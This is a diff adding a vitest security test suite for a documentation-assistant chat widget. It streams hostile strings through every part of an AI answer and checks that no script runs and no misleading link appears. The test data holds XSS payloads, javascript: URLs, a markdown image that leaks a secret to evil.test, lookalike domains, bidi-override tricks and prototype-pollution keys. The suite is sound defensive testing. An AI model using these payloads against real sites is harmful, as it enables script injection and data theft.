@@ -1,0 +1,149 @@
+/**
+ * Hostile words by every way in that an answer has, through the whole widget, on a page under
+ * `default-src 'self'; require-trusted-types-for 'script'`: text, reasoning, titles and addresses of sources, names,
+ * arguments and results of tools, files, annotations, ids, and errors.
+ */
+import { afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
+import { DocsAssistant } from '../../../src/index.ts'
+import { preloadMarkdown } from '../../../src/markdown/index.ts'
+import { dataStream, fakeAssistant, type DataStream } from '../../../src/testing/index.ts'
+import { openStrictPage, ORIGIN, type StrictPage } from '../markdown/strictPage.tsx'
+import { faultsInWidget } from './inspectWidget.ts'
+import { slotsIn } from './slots.ts'
+
+const CALL = 'window.__ran=1'
+const TEXTS = [
+  `javascript:${CALL}`, `java\tscript:${CALL}`, `\u0001javascript:${CALL}`, 'data:text/html,<script>1</script>', 'blob:https://docs.test/1', '//evil.test/a', '\\\\evil.test\\a',
+  'https://docs.test@evil.test/', 'https://docs.test/login', 'https://docs.test\u2044login@evil.test/', 'https://d\u043ecs.test/', '/%E2%80%AEgpj.exe',
+  `<img src=x onerror=${CALL}>`, `"><script>${CALL}</script>`, '<style>body{display:none}</style>', '<iframe src="https://evil.test/"></iframe>', '<base href="https://evil.test/">',
+  '![a](https://evil.test/b.png?d=SECRET) [a](https://evil.test/)', `[a](javascript:${CALL}) [https://docs.test/](https://evil.test/)`, '$$\\href{javascript:0}{x}$$ $x\u202ey^2$',
+  '\u202etxt.exe\u202c \u2066a', 'hidden\u{e0041}\u{e0042}\u200b words', '\u001b[31mred\u001b[0m\u0007', 'a\0b', '\ud83d', '\udc00x', 'Z\u0351\u036b\u0343\u036a\u0302'.repeat(150), 'W'.repeat(3000),
+  '__proto__', 'constructor', 'toString', 'then', '$$typeof', '', ' ', '```js" onclick="x\nlet a\n```', '[^__proto__] [1] [999]\n\n[^__proto__]: n', '> '.repeat(3000), '['.repeat(3000), '`'.repeat(999),
+].map((text) => ({ name: JSON.stringify(text.slice(0, 40)), text }))
+
+/** One answer that says the same by all its parts; `pieces` is the text as it streams. */
+function answerOf(text: string, pieces: readonly string[]): DataStream {
+  const args = { query: text, [text]: text, deep: [{ [text]: text }] }
+  const json = JSON.stringify(args)
+  const deltas = json.match(/[^]{1,40}/g) ?? []
+  return dataStream()
+    .step(text)
+    .annotations(text, { type: text })
+    .data(text, { type: 'finish', threadId: { [text]: text } })
+    .reasoning(...pieces)
+    .redactedReasoning(text)
+    .tool({ id: 'a', name: text, args, result: { [text]: text } })
+    .tool({ id: 'b', name: 'lookup', args, deltas: deltas.slice(0, 20), result: text })
+    .tool({ id: text, name: 'lookup', args: { query: text }, result: [text] })
+    .tool({ id: 'c', name: 'search', args: { query: text }, result: halves(text).flatMap((half) => [{ path: half, metadata: { title: half } }, { url: 'https://other.test/', title: half }]) })
+    .source({ url: text, title: 'Looks fine' })
+    .source({ url: 'https://evil.test/a', title: text, id: text })
+    .source({ url: '/own', title: text })
+    .file({ mimeType: text, data: 'AAAA' })
+    .file({ mimeType: 'text/html', data: text })
+    .text('See [1], [2] and [3]: ', ...pieces)
+}
+
+/** A text at some of the lengths that it may have been cut at. */
+function halves(text: string): string[] {
+  return [text, text.slice(0, Math.ceil(text.length / 2)), text.slice(0, 7)]
+}
+
+let page: StrictPage
+const polluted = Object.getOwnPropertyNames(Object.prototype).join()
+beforeAll(() => preloadMarkdown())
+beforeEach(() => {
+  page = openStrictPage(420)
+  page.box.style.height = '560px'
+})
+afterEach(() => page.close())
+
+/** Asks, and waits until the answer, or what went wrong with it, is there. */
+async function ask(answer: DataStream, delayMs: number, look: () => void = () => {}): Promise<void> {
+  const fetch = fakeAssistant(answer, { delayMs }) as unknown as typeof globalThis.fetch
+  page.render(<DocsAssistant baseUrl={ORIGIN} domain="acme" apiKey="svc_dsc_test" variant="inline" storage={null} siteUrl={`${ORIGIN}/`} fetch={fetch} navigate={() => {}} tools={{}} />)
+  const slots = slotsIn(page.box)
+  const input = (await slots.wait('input')) as HTMLTextAreaElement
+  const { HTMLTextAreaElement } = page.frame.contentWindow as Window & typeof globalThis
+  Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(input, 'What?')
+  input.dispatchEvent(new Event('input', { bubbles: true }))
+  await expect.poll(() => (slots.find('send') as HTMLButtonElement | null)?.disabled).toBe(false)
+  slots.find('send')!.click()
+  await expect
+    .poll(() => {
+      look()
+      for (const button of page.box.querySelectorAll<HTMLButtonElement>('[data-slot="message"] button[aria-expanded="false"]')) button.click()
+      return slots.all('problem').length + page.box.querySelectorAll('[data-role="assistant"][data-status="done"]').length
+    }, { timeout: 10_000, interval: 30 })
+    .toBeGreaterThan(0)
+}
+
+/** What a reader would do with what is there. */
+function use(): void {
+  const view = page.frame.contentWindow as Window & typeof globalThis
+  const stay = (event: Event) => event.preventDefault()
+  page.frame.contentDocument!.addEventListener('click', stay)
+  for (const chip of page.box.querySelectorAll('.da-citation')) chip.dispatchEvent(new view.PointerEvent('pointerover', { bubbles: true }))
+  for (const link of page.box.querySelectorAll<HTMLElement>('[data-slot="message"] a')) {
+    link.focus()
+    link.click()
+  }
+  page.frame.contentDocument!.removeEventListener('click', stay)
+}
+
+function faults(): string[] {
+  const found = faultsInWidget(page.box, ORIGIN)
+  found.push(...page.violations)
+  if ('__ran' in page.frame.contentWindow! || '__ran' in window) found.push('a script ran')
+  if (Object.getOwnPropertyNames(Object.prototype).join() !== polluted) found.push('Object.prototype changed')
+  if (page.frame.contentDocument!.title !== '' || !page.box.checkVisibility()) found.push('the page changed')
+  return found
+}
+
+test.each(TEXTS)('$name does no harm by any part of an answer', async ({ text }) => {
+  await ask(answerOf(text, [text]).finish({ threadId: text }), 0)
+  expect(faults().join('\n')).toBe('')
+  use()
+  expect(faults().join('\n')).toBe('')
+  expect(page.box.querySelector('[data-slot="thread"]')!.textContent).toContain('See ')
+})
+
+test.each(TEXTS)('$name does no harm by any part while it streams', async ({ text }) => {
+  const size = Math.max(1, Math.ceil(text.length / 6))
+  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size))
+  const seen = new Set<string>()
+  await ask(answerOf(text, pieces).finish(), 12, () => {
+    for (const fault of faults()) seen.add(fault)
+  })
+  expect([...seen, ...faults()].join('\n')).toBe('')
+})
+
+test.each(TEXTS)('$name is not shown when it is an error', async ({ text }) => {
+  await ask(dataStream().step().text('Half an answer').error(text), 0)
+  const notice = page.box.querySelector('[data-slot="problem"]')!
+  expect(faults().join('\n')).toBe('')
+  if (text.trim().length > 3) expect(notice.textContent).not.toContain(text)
+})
+
+test('a fault is seen by whichever part it comes', async () => {
+  await ask(answerOf('fine', ['fine']).finish(), 0)
+  expect(faults().join('\n')).toBe('')
+  const add = (slot: string, localName: string, properties: Partial<HTMLAnchorElement> = {}) => {
+    const element = Object.assign(page.frame.contentDocument!.createElement(localName), properties)
+    page.box.querySelector(`[data-slot="${slot}"]`)!.append(element)
+    return element
+  }
+  add('text', 'script')
+  add('tool', 'a', { href: 'javascript:0', textContent: 'x' })
+  add('source', 'a', { href: 'https://evil.test/' }).append(Object.assign(page.frame.contentDocument!.createElement('bdi'), { textContent: 'https://docs.test/a' }))
+  add('reasoning', 'p', { id: 'root', textContent: '\u202ex' })
+  expect(faults().sort()).toEqual([
+    'a character that turns or hides text',
+    'element script',
+    'id root',
+    'no noopener on https://evil.test/',
+    'no noopener on javascript:0',
+    'says docs.test, leads to evil.test',
+    'scheme javascript:0',
+  ])
+})
